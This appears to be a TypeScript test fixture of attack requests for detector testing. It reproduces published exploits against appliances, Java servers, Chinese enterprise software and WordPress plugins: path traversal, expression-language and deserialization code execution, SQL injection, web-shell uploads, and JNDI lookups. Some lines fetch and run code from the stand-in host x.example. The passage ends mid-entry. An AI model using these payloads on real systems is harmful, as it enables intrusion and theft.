// The third set, requests as a whole: shapes of published attacks on products, 2014 to 2026, with harmless ends (`id`, a name
// of an example). Written from advisories before its author had read the detectors.
import type { Family, Row } from "../contract.ts"
import { form, get, json, message, parts, post } from "../raw.ts"

const RUNTIME = "java.lang.Runtime.getRuntime().exec('id')"

export const THIRD_PUBLISHED: readonly Family[] = [
    {
        name: "appliances, third",
        rows: [
            req(get("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"), "F5 2020-5902"),
            req(
                json(
                    "/mgmt/tm/util/bash",
                    { command: "run", utilCmdArgs: "-c id" },
                    "X-F5-Auth-Token: a",
                    "Connection: keep-alive, X-F5-Auth-Token",
                ),
                "F5 2022-1388",
            ),
            req(get("/vpn/../vpns/cfg/smb.conf"), "Citrix 2019-19781"),
            req(
                form(
                    "/vpns/portal/scripts/newbm.pl",
                    "url=http://x.example&title=[%25+template.new({'BLOCK'='print+`id`'})+%25]&desc=a&UI_inuse=a",
                    "NSC_USER: ../../../netscaler/portal/templates/x",
                ),
                "Citrix 2019-19781",
            ),
            req(get("/oauth/idp/.well-known/openid-configuration", `Host: ${"a".repeat(24_576)}`), "Citrix 2023-4966"),
            req(
                post(
                    "/documentum/upload.aspx?parentid=a&raw=1&unzip=on&uploadid=x\\..\\..\\..\\cifs&filename=x.aspx",
                    "application/octet-stream",
                    "<%@ Page %>",
                ),
                "ShareFile 2023-24489",
            ),
            req(get("/api/v1/totp/user-backup-code/../../system/system-information"), "Ivanti 2023-46805"),
            req(get("/api/v1/totp/user-backup-code/../../license/keys-status/%3Bid%3B"), "Ivanti 2024-21887"),
            req(
                post(
                    "/dana-ws/saml20.ws",
                    "text/xml",
                    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:KeyInfo><ds:RetrievalMethod URI="http://127.0.0.1:8090/api/v1/license/keys-status/%3bid%3b"/></ds:KeyInfo></ds:Signature></soap:Body></soap:Envelope>',
                ),
                "Ivanti 2024-21893",
            ),
            req(
                get(
                    "/mifs/rs/api/v2/featureusage?format=${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
                ),
                "Ivanti 2025-4428",
            ),
            req(get("/client/index.php%3F.php/gsb/users.php"), "Ivanti 2024-8963"),
            req(
                get("/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/"),
                "Pulse 2019-11510",
            ),
            req(
                post(
                    "/ssl-vpn/hipreport.esp",
                    "text/plain",
                    "",
                    "Cookie: SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/x`curl${IFS}x.example`",
                ),
                "PAN-OS 2024-3400",
            ),
            req(get("/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css"), "PAN-OS 2025-0108"),
            req(
                form(
                    "/php/utils/createRemoteAppwebSession.php/x.js.map",
                    "user=`id`&userRole=superuser&remoteHost=&vsys=vsys1",
                    "X-PAN-AUTHCHECK: off",
                ),
                "PAN-OS 2024-9474",
            ),
            req(get("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"), "FortiOS 2018-13379"),
            req(
                get("/api/fabric/device/status", "Authorization: Bearer '/**/or/**/sleep(5)--/**/-'"),
                "FortiWeb 2025-25257",
            ),
            req(
                post("/api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi", "application/json", "{}"),
                "FortiWeb 2025-64446",
            ),
            req(
                message(
                    "PUT",
                    "/api/v2/cmdb/system/admin/admin",
                    [
                        'Forwarded: for="[127.0.0.1]:8000";by="[127.0.0.1]:9000"',
                        "User-Agent: Report Runner",
                        "Content-Type: application/json",
                    ],
                    '{"ssh-public-key1":"\\"ssh-rsa AAAA x\\""}',
                ),
                "FortiOS 2022-40684",
            ),
            req(
                json("/ztp/cgi-bin/handler", {
                    command: "setWanPortSt",
                    proto: "dhcp",
                    port: "4",
                    mtu: ";ping -c 3 x.example;",
                    data: "hi",
                }),
                "Zyxel 2022-30525",
            ),
            req(form("/adv,/cgi-bin/weblogin.cgi", "username=admin%27%3Bid+%23&password=a"), "Zyxel 2020-9054"),
            req(
                get(
                    "/cmd,/simZysh/register_main/setCookie?c0=storage_ext_cgi+CGIGetExtStoInfo+None)+and+False+or+__import__(%22subprocess%22).check_output(%22id%22,+shell=True)%23",
                ),
                "Zyxel 2024-29973",
            ),
            req(form("/?PHPRC=/dev/fd/0", 'auto_prepend_file="/etc/passwd"'), "Junos 2023-36845"),
            req(
                get(
                    "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
                ),
                "ASA 2020-3452",
            ),
            req(get("/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions"), "ASA 2018-0296"),
            req(
                post("/clients/MyCRL", "text/plain", "aCSHELL/../../../../../../../etc/shadow"),
                "Check Point 2024-24919",
            ),
            req(get("/?InternalDir=/../../../../windows&InternalFile=win.ini"), "Serv-U 2024-28995"),
            req(
                get("/access/set?param=enableapi&value=1", `Authorization: Basic ${btoa("';id;':x")}`),
                "LoadMaster 2024-1212",
            ),
            req(get("/npm-pwg/..;/axis2-AWC/services/listServices"), "Mitel 2024-41713"),
            req(get("/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml"), "GoAnywhere 2024-0204"),
            req(get("/cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;id;%27"), "D-Link 2024-10914"),
            req(
                get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60/tmp/x%60)"),
                "TP-Link 2023-1389",
            ),
            req(
                get(
                    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://x.example/m+-O+/tmp/n;sh+/tmp/n&curpath=/&currentsetting.htm=1",
                ),
                "Netgear",
            ),
            req(
                form(
                    "/GponForm/diag_Form?images/",
                    "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`id`;id&ipv=0",
                ),
                "GPON 2018-10562",
            ),
            req(
                message(
                    "PUT",
                    "/SDK/webLanguage",
                    ["Content-Type: application/xml"],
                    '<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/x)</language>',
                ),
                "Hikvision 2021-36260",
            ),
            req(
                json("/cgi-bin/cstecgi.cgi", {
                    topicurl: "setting/setUpgradeFW",
                    Flags: "1",
                    ContentLength: "1",
                    FileName: ";id;",
                }),
                "TOTOLINK",
            ),
            req(
                form(
                    "/cgi-bin/mainfunction.cgi",
                    "action=login&keyPath=%27%0A%2fbin%2fcat${IFS}%2fetc%2fpasswd%0A%27&loginUser=a&loginPwd=a",
                ),
                "DrayTek 2020-8515",
            ),
            req(form("/password_change.cgi", "user=rei&pam=&expired=2&old=a%7cid&new1=b&new2=b"), "Webmin 2019-15107"),
            req(
                form(
                    "/login/index.php?login=$(echo${IFS}aWQ=${IFS}|${IFS}base64${IFS}-d|${IFS}bash)",
                    "username=root&password=a&commit=Login",
                ),
                "CWP 2022-44877",
            ),
            req(
                form(
                    "/loginok.html",
                    "username=anonymous%00]]%0dlocal+h+%3d+io.popen(%22id%22)%0dlocal+r+%3d+h%3aread(%22*a%22)%0d--&password=",
                ),
                "Wing FTP 2025-47812",
            ),
            req(
                get(
                    "/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=`id`",
                    "X-Forwarded-For: 127.0.0.1",
                ),
                "Cacti 2022-46169",
            ),
            req(get("/install/lib/ajaxHandlers/ajaxServerSettingsChk.php?rootUname=%3Bid%20%23"), "rConfig 2019-16662"),
            req(get("/iam/governance/applicationmanagement/templates;.wadl"), "Oracle Identity 2025-61757"),
        ],
    },
    {
        name: "java products, third",
        rows: [
            req(
                get(
                    "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-R%22%2C%23a%29%29%7D/",
                ),
                "Confluence 2022-26134",
            ),
            req(
                get("/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"),
                "Confluence 2023-22515",
            ),
            req(
                form(
                    "/template/aui/text-inline.vm",
                    "label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027&x=@org.apache.struts2.ServletActionContext@getResponse().getWriter().write('a')",
                ),
                "Confluence 2023-22527",
            ),
            req(
                form("/pages/doenterpagevariables.action", "queryString=%5cu0027%2b%7b3*3%7d%2b%5cu0027"),
                "Confluence 2021-26084",
            ),
            req(
                json("/rest/tinymce/1/macro/preview", {
                    contentId: "1",
                    macro: {
                        name: "widget",
                        params: { url: "https://www.viddler.com/v/a", width: "1", _template: "file:///etc/passwd" },
                    },
                }),
                "Confluence 2019-3396",
            ),
            req(get("/s/a/_/;/WEB-INF/web.xml"), "Confluence 2021-26085"),
            req(
                json("/actuator/gateway/routes/a", {
                    id: "a",
                    filters: [
                        {
                            name: "AddResponseHeader",
                            args: {
                                name: "R",
                                value: '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"id"}).getInputStream()))}',
                            },
                        },
                    ],
                    uri: "http://x.example",
                }),
                "Spring Gateway 2022-22947",
            ),
            req(get("/actuator/heapdump"), "Spring: the heap"),
            req(
                form(
                    "/users?page=&size=5",
                    "username[%23this.getClass().forName(%22java.lang.Runtime%22).getRuntime().exec(%22id%22)]=&password=a",
                ),
                "Spring Data 2018-1273",
            ),
            req(get("/..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23a/development"), "Spring Config 2020-5410"),
            req(get("/static/%5c%2e%2e/%5c%2e%2e/%5c%2e%2e/etc/passwd"), "Spring 2024-38819"),
            req(
                json("/actuator/env", { name: "spring.cloud.bootstrap.location", value: "http://x.example/a.yml" }),
                "Spring: settings",
            ),
            req(
                post(
                    "/upload.action",
                    "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):0).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
                    "",
                ),
                "Struts S2-045",
            ),
            req(
                parts(
                    "/upload.action",
                    ['name="Upload"; filename="a.txt"', "a"],
                    ['name="uploadFileName"', "../../../webapps/ROOT/x.jsp"],
                ),
                "Struts 2023-50164",
            ),
            req(
                get("/index.action?redirect:$%7B%23a%3d(new%20java.lang.ProcessBuilder('id')).start()%7D"),
                "Struts S2-016",
            ),
            req(
                get("/$%7B%23context['xwork.MethodAccessor.denyMethodExecution']=false%7D/actionChain1.action"),
                "Struts S2-057",
            ),
            req(
                get(
                    "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public%20class%20x%20%7Bpublic%20x()%7B%22id%22.execute()%7D%7D",
                ),
                "Jenkins 2018-1000861",
            ),
            req(
                post(
                    "/cli?remoting=false",
                    "application/octet-stream",
                    "\u0000\u0000\u0000\u0006\u0000\u0000\u0004help\u0000\u0000\u0000\u000e\u0000\u0000\u000c@/etc/passwd\u0000\u0000\u0000\u0005\u0002\u0000\u0003GBK",
                    "Side: upload",
                    "Session: 0a1b",
                ),
                "Jenkins 2024-23897",
            ),
            req(form("/script", "script=println(%22id%22.execute().text)"), "Jenkins: its console"),
            req(get("/%2F%2F%2F%2F%2F%2F%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd"), "Nexus 2024-4956"),
            req(
                json("/service/extdirect", {
                    action: "coreui_Component",
                    method: "previewAssets",
                    data: [
                        {
                            page: 1,
                            filter: [
                                {
                                    property: "expression",
                                    value: "''.class.forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')",
                                },
                                { property: "type", value: "jexl" },
                            ],
                        },
                    ],
                }),
                "Nexus 2019-7238",
            ),
            req(
                json("/service/rest/beta/repositories/go/group", {
                    name: "a",
                    group: {
                        memberNames: [
                            "$\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}",
                        ],
                    },
                }),
                "Nexus 2020-10199",
            ),
            req(
                get(
                    `/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22${RUNTIME};%22)`,
                ),
                "WebLogic 2020-14882",
            ),
            req(
                get(
                    "/console/images/%252e%252e%252fconsole.portal?handle=com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext(%22http://x.example/a.xml%22)",
                ),
                "WebLogic 2020-14883",
            ),
            req(
                post(
                    "/_async/AsyncResponseService",
                    "text/xml",
                    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></void></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>',
                ),
                "WebLogic 2019-2725",
            ),
            req(
                get(
                    "/uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name&txtSearchname=a&selfor=Business+location&btnSubmit=Search&operator=http://127.0.0.1:7001",
                ),
                "WebLogic 2014-4210",
            ),
            req(
                get(
                    "/solr/a/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))+$ex.waitFor()",
                ),
                "Solr 2019-17558",
            ),
            req(
                get(
                    "/solr/a/select?q=%7b!xmlparser%20v%3d%27%3c!DOCTYPE%20a%20SYSTEM%20%22http://x.example/a%22%3e%3ca%3e%3c/a%3e%27%7d",
                ),
                "Solr 2017-12629",
            ),
            req(
                form(
                    "/solr/a/dataimport",
                    `command=full-import&dataConfig=${encodeURIComponent('<dataConfig><dataSource type="URLDataSource"/><script><![CDATA[function poc(row){java.lang.Runtime.getRuntime().exec(\'id\');return row}]]></script><document><entity name="a" url="http://127.0.0.1" processor="XPathEntityProcessor" forEach="/" transformer="script:poc"/></document></dataConfig>')}`,
                ),
                "Solr 2019-0193",
            ),
            req(get("/solr/a/debug/dump?param=ContentStreams&stream.url=file:///etc/passwd"), "Solr 2021-27905"),
            req(
                message("MOVE", "/fileserver/a.txt", ["Destination: file:///opt/activemq/webapps/api/a.jsp"], ""),
                "ActiveMQ 2016-3088",
            ),
            req(
                json("/api/jolokia/", {
                    type: "EXEC",
                    mbean: "org.apache.logging.log4j2:type=0",
                    operation: "setConfigText(java.lang.String,java.lang.String)",
                    arguments: [
                        "<Configuration><Appenders><File name='a' fileName='webapps/api/x.jsp'><PatternLayout pattern='<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>'/></File></Appenders></Configuration>",
                        "utf-8",
                    ],
                }),
                "ActiveMQ 2022-41678",
            ),
            req(
                get(
                    "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'id')",
                ),
                "GeoServer 2024-36401",
            ),
            req(
                get(
                    "/geoserver/ows?service=wfs&version=1.0.0&request=GetFeature&typeName=a&CQL_FILTER=strStartsWith(name,'x'')+%3D+true+and+1%3D(SELECT+CAST+((SELECT+version())+AS+INTEGER))+--+')+%3D+true",
                ),
                "GeoServer 2023-25157",
            ),
            req(
                post(
                    "/geoserver/wms",
                    "application/xml",
                    '<wps:Execute service="WPS" xmlns:wps="http://www.opengis.net/wps/1.0.0"><wps:DataInputs><wps:Input><wps:Data><wps:LiteralData>dest = y() - (500); // */ public class Double { public static double NaN = 0; static { try { java.lang.Runtime.getRuntime().exec("id"); } catch (Exception e) {} } } /**</wps:LiteralData></wps:Data></wps:Input></wps:DataInputs></wps:Execute>',
                ),
                "GeoServer 2022-24816",
            ),
            req(get("/x?jsp=/app/rest/users;.jsp"), "TeamCity 2024-27198"),
            req(get("/res/../admin/diagnostic.jsp"), "TeamCity 2024-27199"),
            req(post("/app/rest/users/id:1/tokens/RPC2", "text/plain", ""), "TeamCity 2023-42793"),
            req(get("/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp"), "Openfire 2023-32315"),
            req(
                form(
                    "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y",
                    "groovyProgram=throw+new+Exception('id'.execute().text);",
                ),
                "OFBiz 2023-51467",
            ),
            req(
                form(
                    "/webtools/control/main/ProgramExport",
                    "groovyProgram=\\u0074\\u0068\\u0072\\u006f\\u0077\\u0020\\u006e\\u0065\\u0077\\u0020Exception('id'.\\u0065xecute().text)",
                ),
                "OFBiz 2024-38856",
            ),
            req(
                get(
                    "/api/clusters/local/topics/a/messages?q=new%20ProcessBuilder(%22id%22).start()&filterQueryType=GROOVY_SCRIPT&attempt=7",
                ),
                "Kafka UI 2023-52251",
            ),
            req(get("/?doAs=`id`"), "Spark 2022-33891"),
            req(message("PUT", "/x.jsp/", [], "<% out.println(1); %>"), "Tomcat 2017-12615"),
            req(
                message(
                    "PUT",
                    "/a/session",
                    ["Content-Range: bytes 0-5/100"],
                    "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap",
                ),
                "Tomcat 2025-24813",
            ),
            req(
                json("/context.json", {
                    filters: [
                        {
                            id: "a",
                            filters: [
                                {
                                    condition: {
                                        parameterValues: { a: 'script::Runtime r=Runtime.getRuntime();r.exec("id");' },
                                        type: "profilePropertyCondition",
                                    },
                                },
                            ],
                        },
                    ],
                    sessionId: "a",
                }),
                "Unomi 2020-13942",
            ),
            req(
                json("/gremlin", {
                    gremlin:
                        'Thread thread = Thread.currentThread();Class clz = Class.forName("java.lang.Thread");java.lang.reflect.Field field = clz.getDeclaredField("name");field.setAccessible(true);',
                }),
                "HugeGraph 2024-27348",
            ),
            req(
                json("/druid/indexer/v1/sampler", {
                    type: "index",
                    spec: {
                        dataSchema: {
                            filter: {
                                type: "javascript",
                                function: `function(value){return ${RUNTIME}}`,
                                "": { enabled: true },
                            },
                        },
                    },
                }),
                "Druid 2021-25646",
            ),
            req(
                json("/api/setup/validate", {
                    token: "a",
                    details: {
                        engine: "h2",
                        details: {
                            db: "zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER a BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec('id')\n$$--=x",
                        },
                    },
                }),
                "Metabase 2023-38646",
            ),
            req(get("/api/geojson?url=file:/etc/passwd"), "Metabase 2021-41277"),
            req(
                json("/_search?pretty", {
                    size: 1,
                    script_fields: {
                        a: {
                            script: 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id").getText()',
                        },
                    },
                }),
                "Elasticsearch 2015-1427",
            ),
            req(
                get(
                    "/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template.utility.Execute%22%3fnew%28%29%28%22id%22%29%7d",
                ),
                "VMware 2022-22954",
            ),
            req(json("/casa/nodes/thumbprints", ["127.0.0.1:443/ui/"]), "vROps 2021-21975"),
            req(get("/eam/vib?id=C:\\ProgramData\\VMware\\vCenterServer\\cfg\\vmware-vpx\\vcdb.properties"), "vCenter"),
            req(
                parts("/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1", [
                    'name="file"; filename="helper.jsp"',
                    '<%= new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c")).getInputStream()).useDelimiter("\\\\A").next() %>',
                ]),
                "NetWeaver 2025-31324",
            ),
            req(
                get(
                    "/xwiki/bin/get/Main/SolrSearch?media=rss&text=%7d%7d%7d%7b%7basync%20async%3dfalse%7d%7d%7b%7bgroovy%7d%7dprintln(%22id%22.execute().text)%7b%7b%2fgroovy%7d%7d%7b%7b%2fasync%7d%7d",
                ),
                "XWiki 2025-24893",
            ),
            req(
                get(
                    "/rest/api/latest/projects/A/repos/b/archive?filename=a&at=a&path=a&prefix=ax%00--exec=%60id%60%00--remote=origin",
                ),
                "Bitbucket 2022-36804",
            ),
            req(
                post(
                    "/autodiscover",
                    "application/xml",
                    '<!DOCTYPE xxe [<!ENTITY x SYSTEM "file:///etc/passwd">]><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"><Request><EMailAddress>a</EMailAddress><AcceptableResponseSchema>&x;</AcceptableResponseSchema></Request></Autodiscover>',
                ),
                "Zimbra 2019-9670",
            ),
            req(get("/h/rest?javax.servlet.include.servlet_path=/WEB-INF/web.xml"), "Zimbra 2025-68645"),
            req(
                get(
                    "/WebInterface/function/?command=zip&c2f=abcd&path=%3CINCLUDE%3E/etc/passwd%3C/INCLUDE%3E&names=/a",
                ),
                "CrushFTP 2024-4040",
            ),
            req(
                form(
                    "/commandcenter/deployWebpackage.do",
                    "commcellName=x.example&servicePack=../../Reports/MetricsUpload/shell/&version=a",
                ),
                "Commvault 2025-34028",
            ),
            req(json("/api/login", { username: "a", remember: "${jndi:ldap://x.example/a}", strict: true }), "UniFi"),
            req(
                get(
                    "/search?q=%24%7bjndi%3a%24%7blower%3al%7d%24%7blower%3ad%7da%24%7blower%3ap%7d%3a%2f%2fx.example%2fa%7d",
                ),
                "Log4j",
            ),
            req(
                get("/", "User-Agent: ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}"),
                "Log4j",
            ),
        ],
    },
    {
        name: "products of China, third",
        rows: [
            req(form("/servlet/~ic/bsh.servlet.BshServlet", 'bsh.script=exec("id")%3b'), "Yonyou"),
            req(
                get(
                    "/js/hrm/getdata.jsp?cmd=getSelectAllId&sql=select%20password%20as%20id%20from%20HrmResourceManager",
                ),
                "Weaver",
            ),
            req(form("/sys/ui/extend/varkind/custom.jsp", 'var={"body":{"file":"file:///etc/passwd"}}'), "Landray"),
            req(
                form(
                    "/rep/login",
                    "clsMode=cls_mode_login%0Aid%0A&index=index&log_type=report&loginType=account&page=login&rnd=0&userID=admin&userPsw=a",
                ),
                "Sangfor",
            ),
            req(
                json("/jeecg-boot/jmreport/qurestSql", {
                    apiSelectId: "1",
                    id: "1' or '%1%' like (updatexml(0x3a,concat(1,(select database())),1)) or '%%' like '",
                }),
                "JeecgBoot",
            ),
            req(
                json("/jeecg-boot/jmreport/queryFieldBySql", {
                    sql: 'select \'<#assign ex="freemarker.template.utility.Execute"?new()> ${ex("id")}\'',
                }),
                "JimuReport",
            ),
            req(
                form(
                    "/monitor/job/add",
                    `jobName=a&invokeTarget=${encodeURIComponent("org.yaml.snakeyaml.Yaml.load('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/\"]]]]')")}`,
                ),
                "RuoYi",
            ),
            req(
                json("/bic/ssoService/v1/applyCT", {
                    a: { "@type": "java.lang.Class", val: "com.sun.rowset.JdbcRowSetImpl" },
                    b: {
                        "@type": "com.sun.rowset.JdbcRowSetImpl",
                        dataSourceName: "ldap://x.example/a",
                        autoCommit: true,
                    },
                }),
                "iVMS",
            ),
            req(
                get(
                    "/?a=fetch&templateFile=public/index&prefix=''&content=%3Cphp%3Efile_put_contents('x.php','a')%3C/php%3E",
                ),
                "ThinkCMF",
            ),
            req(get("/index.php?s=index/think%5Cconfig/get&name=database.username"), "ThinkPHP 5"),
            req(
                get("/?lang=../../../../../usr/local/lib/php/pearcmd&+config-create+/%3C?=phpinfo()?%3E+/tmp/x.php"),
                "ThinkPHP 6",
            ),
            req(get("/index.php?m=--%3E%3C?=phpinfo();?%3E"), "ThinkPHP 3: a log"),
            req(
                get(
                    "/user.php?act=login",
                    'Referer: 554fcae493e564ee0dc75bdf2ebf94caads|a:2:{s:3:"num";s:72:"0,1 procedure analyse(extractvalue(rand(),concat(0x7e,version())),1)-- -";s:2:"id";i:1;}',
                ),
                "ECShop",
            ),
            req(
                get("/WebReport/ReportServer?op=chart&cmd=get_geo_json&resourcepath=../../../privilege.xml"),
                "FineReport",
            ),
            req(
                get(
                    "/webroot/decision/view/ReportServer?test=a&n=${__fr_locale__=sql('FRDemo',DECODE('select%201'),1,1)}",
                ),
                "FineReport",
            ),
            req(
                json(
                    "/K3Cloud/Kingdee.BOS.ServiceFacade.ServicesStub.DevReportService.GetBusinessObjectData.common.kdsvc",
                    {
                        ap0: "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFs",
                        format: "3",
                    },
                ),
                "Kingdee",
            ),
            req(form("/ispirit/interface/gateway.php", 'json={"url":"/general/../../mysql5/my.ini"}'), "Tongda"),
            req(get("/nacos/v1/cs/ops/derby?sql=select%20*%20from%20users"), "Nacos"),
            req(form("/ajax/getemaildata.php?DontCheckLogin=1", "filePath=../../../../Windows/win.ini"), "Eyoumail"),
            req(
                get(
                    "/index.php?keyword=%7Bpboot:if((get_lg/*a-*/())/**/(get_backurl/*a-*/()))%7D123321a%7B/pboot:if%7D&backurl=;id",
                ),
                "PbootCMS",
            ),
            req(
                parts("/ddi/server/fileupload.php?uploadDir=321&name=x.php", [
                    'name="file"; filename="111.php"',
                    "<?php phpinfo();?>",
                ]),
                "Ruijie",
            ),
            req(get("/seeyon/thirdpartyController.do.css/..;/ajax.do"), "Seeyon"),
            req(
                form(
                    "/imc/javax.faces.resource/dynamiccontent.properties.xhtml",
                    "pfdrt=sc&ln=primefaces&pfdrid=%23%7b%22%22.getClass().forName(%22java.lang.Runtime%22)%7d&cmd=id",
                ),
                "H3C",
            ),
            req(
                get(
                    "/ext/collect/filter_text.do?template=%{(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}".replaceAll(
                        " ",
                        "+",
                    ),
                ),
                "OA",
            ),
        ],
    },
    {
        name: "php, ruby, python, node products, third",
        rows: [
            req(
                form(
                    "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
                    "form_id=user_register_form&_drupal_ajax=1&mail[%23post_render][]=exec&mail[%23type]=markup&mail[%23markup]=id",
                ),
                "Drupal 2018-7600",
            ),
            req(
                post(
                    "/node/?_format=hal_json",
                    "application/hal+json",
                    '{"link":[{"value":"a","options":"O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{s:33:\\"\\u0000GuzzleHttp\\\\Psr7\\\\FnStream\\u0000methods\\";a:0:{}}"}],"_links":{"type":{"href":"http://www.example.jp/rest/type/shortcut/default"}}}',
                ),
                "Drupal 2019-6340",
            ),
            req(
                form(
                    "/?q=node&destination=node",
                    "name[0%20;update+users+set+name%3d'a'+where+uid+%3d+'1';%23%20%20]=b&name[0]=a&pass=c&form_id=user_login_block",
                ),
                "Drupal 2014-3704",
            ),
            req(
                parts(
                    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
                    ['name="cmd"', "upload"],
                    ['name="target"', "l1_"],
                    ['name="upload[]"; filename="x.php"', "<?php echo 1;"],
                ),
                "wp-file-manager 2020-25213",
            ),
            req(
                form(
                    "/wp-content/plugins/wp-automatic/inc/csv.php",
                    "q=INSERT+INTO+wp_users+(user_login,user_pass)+VALUES+('a','b')&auth=%00&integ=0",
                ),
                "wp-automatic 2024-27956",
            ),
            req(
                get("/?utm_id=%22%3E%3Cscript%20src=https://x.example/a.js%3E%3C/script%3E"),
                "wp-statistics 2024-2194",
            ),
            req(
                post(
                    "/wp-content/plugins/backup-backup/includes/backup-heart.php",
                    "text/plain",
                    "",
                    "Content-Dir: php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=php://temp",
                ),
                "Backup Migration 2023-6553",
            ),
            req(
                json("/wp-json/bricks/v1/render_element", {
                    postId: "1",
                    nonce: "a",
                    element: {
                        name: "container",
                        settings: {
                            hasLoop: "true",
                            query: {
                                useQueryEditor: true,
                                queryEditor: "throw new Exception(`id`);",
                                objectType: "post",
                            },
                        },
                    },
                }),
                "Bricks 2024-25600",
            ),
            req(
                form(
                    "/wp-admin/admin-ajax.php?action=um_get_members",
                    "directory_id=b9238&sorting=user_login%2c(select+sleep(5))&nonce=a",
                ),
                "Ultimate Member 2024-1071",
            ),
            req(
                form(
                    "/wp-admin/admin-ajax.php",
                    `action=ecsload&query=${encodeURIComponent('{"tax_query":{"0":{"field":"term_taxonomy_id","terms":["111) and extractvalue(rand(),concat(0x5e,user(),0x5e))#"]}}}')}`,
                ),
                "WordPress 2022-21661",
            ),
            req(
                get("/wp-admin/admin-ajax.php?action=duplicator_download&file=/../wp-config.php"),
                "Duplicator 2020-11738",
            ),
            req(get("/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"), "Revolution Slider"),
            req(
                form(
                    "/wp-admin/admin-ajax.php",
                    `action=give_process_donation&give_title=${encodeURIComponent('O:19:"Stripe\\\\\\\\StripeObject":1:{s:10:"\\0*\\0_values";a:0:{}}')}`,
                ),
                "GiveWP 2024-5932",
            ),
            req(
                post(
                    "/xmlrpc.php",
                    "text/xml",
                    "<?xml version='1.0'?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://127.0.0.1:22/</string></value></param><param><value><string>https://www.example.jp/?p=1</string></value></param></params></methodCall>",
                ),
                "WordPress: a pingback",
            ),
            req(
                parts("/uploads/user", [
                    'name="file"; filename="a.jpg"',
